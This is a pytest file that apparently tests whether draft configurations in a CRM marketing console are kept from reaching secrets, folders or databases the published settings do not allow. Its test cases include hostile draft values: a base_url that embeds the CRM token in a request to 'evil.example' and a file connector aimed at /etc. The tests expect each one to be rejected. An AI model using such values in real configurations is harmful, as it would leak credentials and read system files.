"""What a draft may reach before it is published: the systems and the database that are published, by the same settings."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest

from connectors.errors import Misconfigured
from console.discovering import discover, read_one
from console.impact import impact
from console.web.draft import published
from tests.console.web.test_impact import SILENT, drafted

MAIN = "smarketing.yaml"
CRM = 'crm: {connector: memory, role: crm, settings: {file: crm.json, token: "${CRM_TOKEN}", unique: [Email]}}'


def tried(project: Path, files: dict[str, str]) -> None:
    """Each way in which a draft is tried before it is published has to say no."""
    record = {"system": "crm", "of": "lead", "id": "1", "fields": ["Email"], "files": files}
    for work, arguments in (
        (impact, {"files": files}),
        (discover, {"system": "crm", "files": files}),
        (read_one, record),
    ):
        with pytest.raises(Misconfigured, match="crm"):
            asyncio.run(work(project, SILENT, arguments))


@pytest.mark.parametrize(
    "other",
    [
        CRM.replace("crm.json", "secrets.json"),  # another place to read from
        CRM.replace("${CRM_TOKEN}", "${FORGET_KEY}"),  # a secret that this system is not given
        'crm: {connector: file, role: crm, settings: {folder: /etc, lead: {files: "*.csv", id: id}}}',
        'crm: {connector: hubspot, role: crm, settings: {base_url: "https://evil.example/${CRM_TOKEN}", token: "${CRM_TOKEN}"}}',
    ],
)
def test_no_draft_is_connected_to_where_nothing_published_is(project: Path, other: str) -> None:
    (project / "secrets.json").write_text(json.dumps(json.loads((project / "crm.json").read_text("utf-8"))), "utf-8")
    tried(project, drafted(project, MAIN, (CRM, other)))


def test_a_drafts_new_system_is_not_connected_either(project: Path) -> None:
    text = (project / MAIN).read_text("utf-8")
    files = drafted(
        project, MAIN, (CRM, f"{CRM}\n  spy: {CRM.removeprefix('crm: ')}".replace("role: crm", "role: other", 2))
    )
    files["mappings/spy.yaml"] = files["mappings/crm.yaml"]
    with pytest.raises(Misconfigured, match="spy"):
        asyncio.run(discover(project, SILENT, {"system": "spy", "files": files}))
    assert (project / MAIN).read_text("utf-8") == text


def test_the_database_is_the_published_one(project: Path) -> None:
    files = drafted(project, MAIN, ("sqlite:///state.sqlite", "sqlite:///another.sqlite"), ("points: 10", "points: 11"))
    told: Any = asyncio.run(impact(project, SILENT, {"files": files}))
    asyncio.run(discover(project, SILENT, {"system": "crm", "files": files}))
    assert told["same"] is False
    assert not (project / "another.sqlite").exists()
    assert told["shared"], "the scores of the leads that there are"


def test_all_else_of_a_draft_is_tried_as_it_is(project: Path) -> None:
    spelled = CRM.replace("file: crm.json", 'file: "crm.json"').replace("role: crm", "role: other")
    files = drafted(project, MAIN, (CRM, spelled), ("points: 10", "points: 11"))
    assert asyncio.run(impact(project, SILENT, {"files": files}))["same"] is False
    assert asyncio.run(discover(project, SILENT, {"system": "crm", "files": files}))["kinds"]
    (project / MAIN).write_text(published(project)[MAIN] + "\nnonsense: 1\n", "utf-8")  # what is published has an error
    assert asyncio.run(impact(project, SILENT, {"files": files}))["same"] is False
